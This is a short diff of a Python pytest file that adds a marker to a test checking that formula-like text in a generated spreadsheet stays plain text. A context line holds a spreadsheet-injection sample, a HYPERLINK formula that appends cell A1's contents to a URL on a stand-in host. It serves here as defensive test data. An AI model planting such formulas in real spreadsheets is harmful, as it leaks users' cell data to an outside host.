@@ -109,6 +109,7 @@ FORMULA = '=HYPERLINK("http://prova.example/"&A1,"premere qui")'
 
 
 @pytest.mark.slow
+@pytest.mark.not_for_excel("what these commands write is judged in their own tests")
 def test_a_text_that_looks_like_a_formula_stays_a_text(tmp_path: Path) -> None:
     """In all that is made of a plan whose every text is one: only the program's own formulas are there."""
     office, plan, parts = tmp_path / "p.xlsx", tmp_path / "Piano.xlsm", tmp_path / "Parti"
